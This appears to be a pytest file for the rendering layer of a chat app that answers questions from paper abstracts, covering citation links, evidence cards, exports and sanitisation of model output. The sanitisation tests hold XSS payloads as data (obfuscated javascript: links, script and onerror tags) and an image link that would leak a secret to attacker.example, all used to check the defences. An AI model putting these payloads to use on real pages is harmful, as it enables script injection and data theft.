"""ui.render: pure Answer -> Markdown / HTML functions, on hand-made Answers."""

from __future__ import annotations

import re

import pytest
from ui_helpers import hand_answer

from assistant.types import Citation, IngestIssue, Record
from ui import export_text, render


# -- chat markdown ---------------------------------------------------------------------------------
def test_markers_link_to_evidence_cards_and_sources_are_listed():
    a = hand_answer()
    md = render.answer_markdown(a)
    assert '[\\[1\\]](#pc-ev-ans-1-1 "Alpha method")' in md
    assert "(#pc-ev-ans-1-2 " in md
    assert "**Sources**" in md
    assert "- [\\[1\\]](#pc-ev-ans-1-1) Alpha method\n" in md
    assert "p-one" not in md  # ids are behind each card's "details" toggle, not in the chat
    # the label from the corpus is escaped, never raw HTML
    assert "<b>" not in md and "Gamma &lt;b&gt;bold&lt;/b&gt;" in md
    # every anchor in the markdown exists in the evidence panel
    html = render.evidence_html(a)
    for anchor in set(re.findall(r"\(#(pc-ev-[\w-]+)", md)):
        assert f'id="{anchor}"' in html


def test_plain_form_for_the_api():
    md = render.answer_markdown(hand_answer(), links=False)
    assert "Alpha beats Beta by 3 points [1]." in md
    assert "- [1] Alpha method (p-one)" in md
    assert "- [2] Gamma &lt;b&gt;bold&lt;/b&gt; (p-two)" in md
    assert "#pc-ev" not in md


def test_marker_without_citation_is_not_linked():
    md = render.answer_markdown(hand_answer(answer="Alpha [1]. Nothing cites this [7]."))
    assert "#pc-ev-ans-1-1" in md
    assert "#pc-ev-ans-1-7" not in md and "\\[7\\]" in md


def test_grouped_markers_each_link():
    md = render.link_markers("Both agree [1, 2].", hand_answer())
    assert "(#pc-ev-ans-1-1 " in md and "(#pc-ev-ans-1-2 " in md


def test_standalone_query_shown_only_for_rewritten_followups():
    same = render.answer_markdown(hand_answer())
    assert "Searched for" not in same
    rewritten = render.answer_markdown(
        hand_answer(question="Which datasets did they use?", standalone_query="Which datasets did Alpha use?")
    )
    assert "_Searched for:_ Which datasets did Alpha use?" in rewritten


def test_incomplete_and_unsupported_are_announced():
    md = render.answer_markdown(hand_answer(incomplete=True, unsupported=("Alpha cures cancer [1].",)))
    assert "incomplete" in md
    assert "1 sentence removed" in md


def test_comparison_table_passes_through():
    table = (
        "| Paper | Method | Data |\n|---|---|---|\n"
        "| **Alpha** [1] | We propose Alpha [1] | not reported in the abstract |\n"
        "| **Gamma** [2] | not reported in the abstract | Gamma uses ImageNet [2] |"
    )
    md = render.answer_markdown(hand_answer(answer=table, kind="compare"))
    lines = md.splitlines()
    assert lines[0] == "| Paper | Method | Data |" and lines[1] == "|---|---|---|"
    assert lines[2].startswith("| **Alpha** [\\[1\\]](#pc-ev-ans-1-1")
    assert lines[2].endswith("| not reported in the abstract |")
    assert lines[3].count("|") == 4  # no cell boundary added or lost
    plain = render.answer_markdown(hand_answer(answer=table, kind="compare"), links=False)
    assert plain.startswith(table)


def test_list_answers_get_their_count():
    listed = "1. **Alpha** — beats Beta [1]\n2. **Gamma** — uses ImageNet [2]"
    md = render.answer_markdown(hand_answer(answer=listed, kind="list"), links=False)
    assert md.startswith("**2 papers found:**")
    assert "1. **Alpha**" in md and "2. **Gamma**" in md
    # a count already stated is not repeated
    stated = "**2 papers** in the indexed abstracts match “x”:\n\n" + listed
    md2 = render.answer_markdown(hand_answer(answer=stated, kind="list"), links=False)
    assert md2.count("2 paper") == 1
    # prose becomes a list built from the citations
    md3 = render.answer_markdown(hand_answer(answer="Alpha [1] and Gamma [2] do.", kind="list"), links=False)
    assert md3.startswith("**2 papers found:**") and "- Alpha method [1]" in md3


# -- sanitising model output ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "evil",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](javascript\\:alert(1))",
        "[click]( <javascript:alert(1)> )",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox)",
        "[click][r]\n\n[r]: javascript:alert(1)",
        "[click][r]\n\n[r]:\n   javascript:alert(1)",
    ],
)
def test_unsafe_links_lose_their_target(evil):
    out = render.safe_markdown(evil)
    low = re.sub(r"\s", "", out.lower())
    assert "javascript:" not in low and "vbscript:" not in low and "data:text" not in low
    assert "&#106;avascript" not in low
    assert "click" in out


def test_images_are_never_loaded_and_html_is_inert():
    out = render.safe_markdown(
        "See ![x](https://attacker.example/?q=secret) and ![y][img]\n\n[img]: https://attacker.example/p.png\n"
        '<img src=x onerror="window.__xss=1"> <script>alert(1)</script> <iframe src="https://a.example">'
    )
    assert "![" not in out.replace("!\\[", "")
    assert "attacker.example" not in out
    assert "<img" not in out and "<script" not in out and "<iframe" not in out
    assert "&lt;img" in out


def test_safe_links_survive():
    out = render.safe_markdown("Read [the paper](https://example.org/a_(b)) or [mail](mailto:a@b.c).")
    assert "](https://example.org/a_(b))" in out and "](mailto:a@b.c)" in out


# -- evidence panel -----------------------------------------------------------------------------------
def test_evidence_cards_highlight_support_and_escape_abstracts():
    a = hand_answer(unsupported=("Alpha cures cancer [1].",), notes=("1 sentence removed: unsupported.",))
    html = render.evidence_html(a)
    assert '<article class="pc-card" id="pc-ev-ans-1-1">' in html
    assert "<mark>Alpha beats Beta by 3 points.</mark>" in html
    assert "We propose Alpha. <mark>" in html  # unsupported parts of the abstract stay unmarked
    assert "<mark>Gamma uses ImageNet.</mark>" in html
    # abstract and label text is escaped
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<b>" not in html and "Gamma &lt;b&gt;bold&lt;/b&gt;" in html
    # metadata and scores
    assert "2023" in html and "Ann Lee, Bo Chen, Cy Park et al." in html and "source a.jsonl:4" in html
    assert "dense 0.81 (#1)" in html and "bm25 7.5 (#2)" in html
    # failed verification is shown as such
    assert "Failed verification" in html and "<s>Alpha cures cancer [1].</s>" in html
    assert "1 sentence removed: unsupported." in html
    # retrieved but not cited
    assert "Also retrieved, not cited (1)" in html and "p-three" in html


def test_highlight_by_sentence_text_when_ids_are_missing():
    text = "First one. Second & <last> one."
    out = render.highlight_abstract(text, (), ("Second & <last> one.",))
    assert out == "First one. <mark>Second &amp; &lt;last&gt; one.</mark>"
    assert render.highlight_abstract(text, (0,), ()) == "<mark>First one.</mark> Second &amp; &lt;last&gt; one."


def test_abstained_answer_has_no_cards():
    a = hand_answer(answer="The indexed abstracts do not answer this question.", citations=(), abstained=True,
                    kind="abstain")
    html = render.evidence_html(a)
    assert "pc-card" not in html and "nothing is cited" in html
    assert "**Sources**" not in render.answer_markdown(a)


def test_focus_lists_papers_in_order_escaped():
    html = render.focus_html(["p-b", "p-a"], {"p-a": "Alpha", "p-b": "<i>B</i>"})
    assert html.index("&lt;i&gt;B&lt;/i&gt;") < html.index("Alpha")
    assert "<i>" not in html
    assert "No papers in focus" in render.focus_html([])


def test_progress_shows_stage_and_sanitised_text():
    assert "Searching the abstracts" in render.progress_markdown("", "retrieving")
    out = render.progress_markdown("Alpha <img src=x> [x](javascript:1)", "generating")
    assert "&lt;img" in out and "javascript" not in out and "Writing the answer" in out


# -- corpus, export, errors --------------------------------------------------------------------------------
def test_abstract_html_escapes():
    r = Record("p-x", "<img src=x onerror=alert(1)> text", label="L <u>", year=2020, authors=("A",))
    html = render.abstract_html(r)
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html and "L &lt;u&gt;" in html
    assert "No abstract with id <code>&lt;b&gt;</code>" in render.abstract_html(None, "<b>")


def test_ingest_report_lists_each_problem():
    md = render.ingest_markdown([
        render.FileOutcome("good.jsonl", summary="2 added",
                           issues=(IngestIssue("good.jsonl", 3, "no abstract text", "k<1>"),)),
        render.FileOutcome("bad.pdf", error="not accepted"),
    ])
    assert "**good.jsonl**: 2 added" in md and "line 3 (key k&lt;1&gt;): no abstract text" in md
    assert "**bad.pdf**: ✗ not accepted" in md


def test_bibtex_and_markdown_export():
    a = hand_answer()
    bib = export_text.bibtex(a)
    assert bib.count("@misc{") == 2
    assert "author = {Ann Lee and Bo Chen and Cy Park and Dee Kay}" in bib
    assert "year = {2023}" in bib and "Lee2023Alpha" in bib
    assert "paper\\_id p-one" in bib
    weird = hand_answer(citations=(Citation(1, "p-w", "T", "x"),), retrieved=())
    bib2 = export_text.bibtex(weird, {"p-w": Record("p-w", "x", title="50% of {A} & B_c", year=2020)})
    assert "title = {{50\\% of \\{A\\} \\& B\\_c}}" in bib2
    md = export_text.export_markdown(a)
    assert md.startswith("# How good is Alpha?")
    assert "## Sources" in md and "### [1] Alpha method" in md and "> Alpha beats Beta by 3 points." in md
    assert "<script>" not in md


def test_error_text_has_no_paths():
    text = render.safe_error_text("No such file: /tmp/gradio/abc123/secret/data.jsonl",
                                  "The index in /home/u/.local/share/paperchat is empty.")
    assert "/tmp" not in text and "/home" not in text
    assert "data.jsonl" in text
    assert render.safe_error_text("<b>x</b>") == "&lt;b&gt;x&lt;/b&gt;"


def test_an_abstention_says_why_in_plain_words_with_its_rule_and_an_answer_does_not():
    from assistant.types import TraceStep

    trace = (TraceStep("name.linked", "pass", "FedMerge -> FedMerge"),
             TraceStep("evidence.weak", "abstain", "best evidence 0.08 < threshold 0.30"))
    a = hand_answer(answer="The indexed abstracts do not answer this question.", citations=(), abstained=True,
                    kind="abstain", trace=trace)
    md = render.answer_markdown(a)
    assert "_Why: The best evidence sentence is below the evidence bar (best evidence 0.08 &lt; threshold 0.30)._" in md
    assert "rule `evidence.weak`" in md
    answered = hand_answer(trace=(TraceStep("evidence.weak", "pass", "best evidence 0.50 >= threshold 0.30"),))
    assert "Why:" not in render.answer_markdown(answered)
    assert "Why:" not in render.answer_markdown(hand_answer(answer="x", abstained=True, kind="abstain"))  # no trace


# -- long lists, details toggles, the panel of a whole chat ---------------------------------------------
def _long_list(n: int):
    from assistant.types import Hit

    recs = [Record(f"p-{i}", f"Paper {i} studies federated learning. It works.", label=f"Paper {i}") for i in range(n)]
    cites = tuple(Citation(i + 1, r.paper_id, r.label, r.text, (), (0,)) for i, r in enumerate(recs))
    body = "\n".join(f"{i + 1}. **Paper {i}** — studies federated learning [{i + 1}]" for i in range(n))
    return hand_answer(answer=f"**{n} papers** match:\n\n{body}", kind="list", citations=cites,
                       retrieved=tuple(Hit(r.paper_id, r, 0.1, {"fused": 0.1}) for r in recs))


def test_long_lists_fold_behind_show_all_in_chat_and_panel():
    a = _long_list(30)
    md = render.answer_markdown(a)
    assert md.count('<details class="pc-more"><summary>') == 2  # the list and the sources
    head, rest = md.split("<summary>Show all 30</summary>", 1)
    assert "8. **Paper 7**" in head and "9. **Paper 8**" not in head and "30. **Paper 29**" in rest
    assert "<summary>Show all 30 sources</summary>" in md
    html = render.evidence_html(a)
    shown, folded = html.split("<summary>Show all 30 cited abstracts</summary>", 1)
    assert shown.count('class="pc-card"') == render.SHOWN_CARDS and folded.count('class="pc-card"') == 25
    short = render.answer_markdown(_long_list(4))  # short lists stay whole
    assert "pc-more" not in short and "pc-more" not in render.evidence_html(_long_list(4))
    assert "<details" not in render.answer_markdown(a, links=False)  # the plain API form is never folded


def test_ids_sources_and_scores_sit_behind_details():
    html = render.evidence_html(hand_answer())
    card = html.split('<article class="pc-card" id="pc-ev-ans-1-1">', 1)[1].split("</article>", 1)[0]
    visible, details = card.split('<details class="pc-details"><summary>details</summary>', 1)
    assert "2023" in visible and "Ann Lee" in visible
    assert "p-one" not in visible and "dense 0.81" not in visible and "source a.jsonl:4" not in visible
    assert "p-one" in details and "dense 0.81 (#1)" in details and "source a.jsonl:4" in details


def test_focus_marks_a_derived_label_untitled_and_never_shows_its_first_words_as_a_name():
    generic = Record("p-g", "Federated learning is widely used. We study drift.",
                     label="Federated learning is widely used", label_derived=True)
    coined = Record("p-c", "We propose FedMerge.", label="FedMerge: Approach that merges models", label_derived=True)
    acronym = Record("p-a", "Diversifying sample condensation (DISCO) ...", label="Diversifying sample condensation",
                     label_derived=True)
    html = render.focus_html(["p-g", "p-c", "p-a"], {"p-g": "Federated learning", "p-c": "FedMerge", "p-a": "DISCO"},
                             records={"p-g": generic, "p-c": coined, "p-a": acronym})
    assert '<span class="pc-title"><i>untitled: Federated learning is widely used</i></span>' in html
    assert '<span class="pc-title">FedMerge <i>untitled: Approach that merges models</i></span>' in html
    assert '<span class="pc-title">DISCO <i>untitled: Diversifying sample condensation</i></span>' in html


def test_focus_and_related_papers_open_their_abstract():
    r = Record("p-a", "Alpha <b>is</b> fast.", label="Alpha", year=2022)
    html = render.focus_html(["p-a", "p-b"], {"p-a": "Alpha", "p-b": "Beta"}, records={"p-a": r})
    assert '<details class="pc-paper"><summary><span class="pc-title">Alpha</span></summary>' in html
    assert "Alpha &lt;b&gt;is&lt;/b&gt; fast." in html and "<b>" not in html
    assert '<span class="pc-paper"><span class="pc-title">Beta</span></span>' in html  # no record: not clickable
    evidence = render.evidence_html(hand_answer(related=(hand_answer().retrieved[2],)))
    assert '<details class="pc-paper"><summary><span class="pc-title">' in evidence.split("Related, but")[1]


def test_panel_keeps_every_answer_and_shows_the_last():
    from ui.panel import panel_html

    a1, a2 = hand_answer(id="a1"), hand_answer(id="a2", question="Which <dataset>?")
    html = panel_html([a1, a2])
    assert html.count('<section class="pc-ans') == 2
    assert '<section class="pc-ans" data-answer="a1">' in html
    assert '<section class="pc-ans pc-active" data-answer="a2">' in html
    assert 'id="pc-ev-a1-1"' in html and 'id="pc-ev-a2-1"' in html  # old markers still have their card
    assert "Which &lt;dataset&gt;?" in html
    working = panel_html([a1], working=True)
    assert "pc-active" not in working and "Collecting evidence" in working
    assert "Ask a question" in panel_html([])


def test_a_replaced_draft_gets_one_line_saying_why():
    a = hand_answer(unsupported=("Alpha cures cancer [1].",))
    line = render.replaced_line("Alpha beats Beta by 3 points [1]. Alpha cures cancer [1].", a)
    assert line.count("\n") == 0 and "1 of its sentences was not supported" in line and "was removed" in line
    assert render.replaced_line(a.answer, a) == ""  # nothing replaced
    assert render.replaced_line("", a) == ""  # extractive: no draft was shown
    composed = render.replaced_line("Something the abstracts never say.", hand_answer())
    assert "quotes the evidence instead" in composed
    assert "answer." not in composed and "prompt_tokens" not in composed  # no internal setting names
    md = render.answer_markdown(a, draft="Alpha cures cancer [1].")
    assert "replaced after checking" in md and "quotes the evidence instead" in md
    assert "sentence removed" not in md  # one line, not two saying the same


def test_progress_shows_a_visible_verifying_step():
    out = render.progress_markdown("Alpha beats Beta [1].", "verifying")
    assert out.startswith("⏳ **Verifying") and "Draft being checked" in out


def test_derived_labels_are_marked_untitled_in_sources_and_cards():
    from assistant.types import Answer, Citation, Hit, Record

    rec = Record("p1", "Alpha beats Beta by 3 points.", label="Recent success of LLMs", label_derived=True)
    titled = Record("p2", "Gamma uses ImageNet.", title="Gamma: a title", label="Gamma: a title")
    a = Answer("q", "Alpha beats Beta by 3 points [1]. Gamma uses ImageNet [2].", "q", False,
               citations=(Citation(1, "p1", rec.display, rec.text, ("Alpha beats Beta by 3 points.",), (0,), True),
                          Citation(2, "p2", titled.display, titled.text, ("Gamma uses ImageNet.",), (0,))),
               retrieved=(Hit("p1", rec, 1.0), Hit("p2", titled, 0.9)), id="ans-1")
    md = render.answer_markdown(a)
    assert "untitled: Recent success of LLMs" in md and "untitled: Gamma" not in md
    html = render.evidence_html(a)
    assert "<i>untitled: Recent success of LLMs</i>" in html and "<i>untitled: Gamma" not in html
